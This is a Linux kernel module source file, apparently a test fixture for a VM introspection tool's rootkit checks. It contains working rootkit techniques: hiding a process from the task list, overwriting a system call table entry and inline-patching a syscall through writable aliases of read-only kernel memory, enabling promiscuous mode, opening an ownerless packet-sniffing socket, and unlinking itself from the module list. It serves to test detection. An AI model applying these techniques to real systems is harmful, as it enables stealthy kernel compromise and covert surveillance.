// SPDX-License-Identifier: GPL-2.0
/*
 * A deliberately rootkit-like test module for vmsvc's introspection checks
 * (`vmsvc inspect check`). It is loaded only in a throw-away QEMU guest by
 * scripts/vmi-fixtures.sh, which then dumps the guest's memory. It does what
 * real rootkits do, in the crudest way, so each trick leaves the trace the
 * checks look for:
 *   - unlinks the process named `hide` from the task list (init_task.tasks)
 *     but not from the PID IDR or its parent's children list;
 *   - replaces sys_call_table[__NR_kill] with a function in this module,
 *     writing through a temporary vmap() alias because the table is read-only
 *     (on this kernel x64_sys_call dispatches with a switch, so the hook is
 *     never called: harmless, and still a modified table);
 *   - inline-hooks __x64_sys_acct (a syscall nothing in the test guest uses):
 *     its first 5 bytes (the ftrace NOP) become `jmp rk_acct`, written through
 *     a vmap() alias of the read-only text page;
 *   - sets interface `ifname` promiscuous;
 *   - opens an in-kernel AF_PACKET/ETH_P_ALL socket (a sniffer with no owning
 *     process);
 *   - removes itself from the module list (it stays in sysfs and in memory).
 * It cannot be unloaded (no exit function): the guest is discarded afterwards.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/rculist.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/netdevice.h>
#include <linux/rtnetlink.h>
#include <linux/net.h>
#include <linux/if_ether.h>
#include <linux/socket.h>
#include <net/net_namespace.h>
#include <asm/unistd.h>

static char *hide = "vmi_hidden";
module_param(hide, charp, 0);
static unsigned long sct; /* sys_call_table, from /proc/kallsyms */
module_param(sct, ulong, 0);
static char *ifname = "eth0";
module_param(ifname, charp, 0);
static unsigned long acct; /* __x64_sys_acct, from /proc/kallsyms */
module_param(acct, ulong, 0);

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn orig_kill;
static struct socket *sniffer;

static long rk_kill(const struct pt_regs *regs)
{
	return orig_kill(regs);
}

static void hide_task(void)
{
	struct task_struct *p, *victim = NULL;

	rcu_read_lock();
	for_each_process(p) {
		if (!strcmp(p->comm, hide)) {
			victim = p;
			break;
		}
	}
	rcu_read_unlock();
	if (!victim) {
		pr_info("vmi_rk: no process '%s'\n", hide);
		return;
	}
	/* list_del_init leaves the entry linked to itself, so the task's own
	 * exit (a second list_del) stays harmless. */
	list_del_init(&victim->tasks);
	pr_info("vmi_rk: hid pid %d (%s)\n", victim->pid, victim->comm);
}

static void hook_syscall(void)
{
	unsigned long addr = sct + __NR_kill * sizeof(void *);
	struct page *pg;
	void *alias;

	if (!sct) {
		pr_info("vmi_rk: no sys_call_table address\n");
		return;
	}
	pg = virt_to_page((void *)addr);
	alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		pr_info("vmi_rk: vmap failed\n");
		return;
	}
	orig_kill = ((syscall_fn *)sct)[__NR_kill];
	*(syscall_fn *)((char *)alias + offset_in_page(addr)) = rk_kill;
	vunmap(alias);
	pr_info("vmi_rk: sys_call_table[%d] -> %px\n", __NR_kill, rk_kill);
}

static long rk_acct(const struct pt_regs *regs)
{
	return -EPERM;
}

/* Write len bytes at a read-only kernel address through a writable alias. */
static bool poke(unsigned long addr, const void *src, size_t len)
{
	struct page *pg = virt_to_page((void *)addr);
	void *alias;

	if (offset_in_page(addr) + len > PAGE_SIZE)
		return false;
	alias = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return false;
	memcpy((char *)alias + offset_in_page(addr), src, len);
	vunmap(alias);
	return true;
}

static void inline_hook(void)
{
	unsigned char jmp[5] = { 0xe9 };
	s32 rel;

	if (!acct)
		return;
	rel = (s32)((unsigned long)rk_acct - (acct + 5));
	memcpy(jmp + 1, &rel, 4);
	pr_info("vmi_rk: inline hook of %px: %s\n", (void *)acct, poke(acct, jmp, 5) ? "done" : "failed");
}

static void set_promisc(void)
{
	struct net_device *dev;

	rtnl_lock();
	dev = __dev_get_by_name(&init_net, ifname);
	if (dev)
		dev_set_promiscuity(dev, 1);
	rtnl_unlock();
	pr_info("vmi_rk: %s promiscuous: %s\n", ifname, dev ? "yes" : "no such device");
}

static void open_sniffer(void)
{
	int rc = sock_create_kern(&init_net, PF_PACKET, SOCK_RAW, htons(ETH_P_ALL), &sniffer);

	pr_info("vmi_rk: packet socket: %d\n", rc);
}

static int __init rk_init(void)
{
	hide_task();
	hook_syscall();
	inline_hook();
	set_promisc();
	open_sniffer();
	list_del_init(&THIS_MODULE->list);
	pr_info("vmi_rk: loaded and unlinked\n");
	return 0;
}
module_init(rk_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmsvc introspection test rootkit (do not load on a real system)");
